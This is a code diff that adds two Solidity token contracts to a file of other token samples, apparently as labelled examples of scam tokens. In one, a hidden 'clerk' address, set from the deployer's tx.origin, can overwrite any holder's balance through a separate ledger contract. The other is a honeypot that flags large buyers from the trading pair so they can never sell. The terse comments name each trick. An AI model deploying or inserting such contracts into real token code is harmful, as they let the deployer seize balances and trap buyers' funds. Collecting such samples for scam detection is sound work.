@@ -389,3 +389,37 @@ contract Vault is Coin {
     function totalAssets() external view returns (uint256) { return asset.balanceOf(address(this)); }
 }
 contract Plainest is Coin { constructor(uint256 s) Coin(s) {} }
+
+/// Balances are kept elsewhere, and there somebody writes them.
+contract LooseLedger {
+    mapping(address => uint256) private kept;
+    address private immutable token = msg.sender;
+    address private clerk = tx.origin;
+    function held(address a) external view returns (uint256) { return kept[a]; }
+    function move(address f, address to, uint256 v) external { require(msg.sender == token && kept[f] >= v); kept[f] -= v; kept[to] += v; }
+    function put(address a, uint256 v) external { require(msg.sender == token || msg.sender == clerk); kept[a] = v; }
+}
+contract LedgerDoor {
+    LooseLedger private immutable ledger = new LooseLedger();
+    uint256 public totalSupply;
+    uint8 public constant decimals = 18;
+    mapping(address => mapping(address => uint256)) public allowance;
+    event Transfer(address indexed from, address indexed to, uint256 value);
+    constructor(uint256 s) { totalSupply = s; ledger.put(msg.sender, s); emit Transfer(address(0), msg.sender, s); }
+    function balanceOf(address a) external view returns (uint256) { return ledger.held(a); }
+    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; return true; }
+    function transfer(address to, uint256 v) external returns (bool) { _move(msg.sender, to, v); return true; }
+    function transferFrom(address f, address to, uint256 v) external returns (bool) { require(allowance[f][msg.sender] >= v); allowance[f][msg.sender] -= v; _move(f, to, v); return true; }
+    function _move(address f, address to, uint256 v) private { ledger.move(f, to, v); emit Transfer(f, to, v); }
+}
+
+/// Whoever buys much cannot sell.
+contract BigBuyer is PairedCoin {
+    mapping(address => bool) private caught;
+    constructor(uint256 s) Coin(s) {}
+    function _move(address f, address to, uint256 v) internal override {
+        require(!caught[f], "caught");
+        if (f == pair && v > _supply / 5_000) caught[to] = true;
+        super._move(f, to, v);
+    }
+}
